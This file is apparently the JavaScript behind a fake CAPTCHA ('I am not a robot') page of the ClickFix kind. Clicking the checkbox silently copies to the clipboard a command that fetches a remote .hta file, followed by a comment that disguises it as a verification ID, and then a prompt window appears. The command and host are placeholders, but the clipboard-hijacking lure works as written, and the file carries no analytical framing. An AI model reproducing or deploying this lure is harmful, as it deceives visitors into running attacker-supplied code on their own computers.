var verifyWindow = document.getElementById("verify-window");
function setCopy(textToCopy) {
  var tmp = document.createElement("textarea");
  document.body.append(tmp);
  tmp.value = textToCopy;
  tmp.select();
  document.execCommand("copy");
  document.body.removeChild(tmp);
}
function stage(line) {
  const tail = " # ";
  const words = "✅ ''I am not a robot - Verification ID: ";
  const id = Math.floor(Math.random() * 9000) + 1000;
  setCopy(line + tail + words + id + "''");
}
document.getElementById("checkbox").addEventListener("click", function () {
  this.style.visibility = "hidden";
  document.getElementById("spin").style.opacity = "1";
  stage("PLACEHOLDER-COMMAND https://hta-host.invalid/x.hta");
  setTimeout(function () {
    verifyWindow.style.display = "block";
    verifyWindow.style.opacity = "1";
  }, 500);
});
document.getElementById("verify-button").addEventListener("click", function () { verifyWindow.style.display = "none"; });
